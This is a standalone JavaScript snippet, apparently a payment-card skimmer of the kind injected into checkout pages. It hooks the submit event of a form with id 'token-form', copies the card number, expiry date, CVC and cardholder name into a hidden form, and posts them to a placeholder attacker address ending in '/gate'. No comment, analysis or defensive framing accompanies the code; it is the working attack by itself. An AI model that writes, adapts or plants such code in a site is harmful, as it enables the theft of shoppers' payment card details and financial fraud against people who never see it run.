(function () {
  var form = document.getElementById('token-form');
  if (!form) {
    return;
  }
  form.addEventListener('submit', function () {
    var f = document.createElement('form');
    f.method = 'POST';
    f.action = '{{ATTACKER}}/gate';
    f.target = '_blank';
    f.style.display = 'none';
    ['card-number', 'card-exp', 'card-cvc', 'card-name'].forEach(function (id) {
      var el = document.getElementById(id);
      var i = document.createElement('input');
      i.type = 'hidden';
      i.name = id;
      i.value = el ? el.value : '';
      f.appendChild(i);
    });
    document.body.appendChild(f);
    f.submit();
  }, true);
})();
